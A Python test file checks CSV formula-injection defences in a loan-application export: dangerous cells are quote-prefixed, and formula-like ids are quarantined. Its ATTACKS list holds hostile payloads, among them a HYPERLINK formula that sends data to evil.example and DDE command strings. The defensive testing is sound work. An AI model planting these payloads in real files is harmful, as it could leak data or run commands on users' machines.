"""CSV formula injection (issue 11): an application id such as =HYPERLINK(...) never gets past
ingest, and whatever reaches the console's export is written so that a spreadsheet reads it as
text, never runs it."""
from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest

from serving.web.safe_csv import FORMULA_STARTS, safe_cell, to_csv
from test_ingest import clean, quarantined, run, valid_export

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&B2,"HS00000001")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formulas():
    header = ["application_id", "note", "score", "amount"]
    rows = [[attack, attack, -5, "=1"] for attack in ATTACKS]
    rows.append(["HS00000001", "Dòng tiền ổn định", 612.5, 80_000_000])  # plain cells stay as they are
    back = list(csv.reader(io.StringIO(to_csv(header, rows).decode("utf-8-sig"), newline="")))
    assert back[0] == header
    for attack, cells in zip(ATTACKS, back[1:-1]):
        assert cells == ["'" + attack, "'" + attack, "'-5", "'=1"]  # every column, not just the id
    assert back[-1] == ["HS00000001", "Dòng tiền ổn định", "612.5", "80000000"]
    for cells in back[1:]:
        assert not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize("value, expected", [
    (None, ""), (float("nan"), ""), (pd.NaT, ""), (pd.Timestamp("2025-03-01"), "2025-03-01"),
    (date(2025, 3, 1), "2025-03-01"), (12, "12"), ("a=b", "a=b"), ("-", "'-"), ("@", "'@")])
def test_safe_cell_keeps_data_and_quotes_only_what_would_run(value, expected):
    assert safe_cell(value) == expected


def test_formula_application_id_is_quarantined(tmp_path):
    tables = valid_export()
    bad = pd.DataFrame({**tables["loan_applications"].iloc[0].to_dict(),
                        "application_id": ATTACKS[0]}, index=[0])
    tables["loan_applications"] = pd.concat([tables["loan_applications"], bad], ignore_index=True)
    report = run(tmp_path, tables)
    q = quarantined(tmp_path, "loan_applications")
    assert q["application_id"].tolist() == [ATTACKS[0]]  # kept as delivered, for the feed's owner
    assert q["rule"].tolist() == ["bad_format"]
    assert "does not have the expected form ^HS[0-9]{8}$" in q["reason"].iloc[0]
    assert ATTACKS[0] not in clean(tmp_path, "loan_applications")["application_id"].tolist()
    t = report.table("loan_applications")
    assert t.reconciles and (t.input_rows, t.accepted, t.quarantined) == (4, 3, 1)
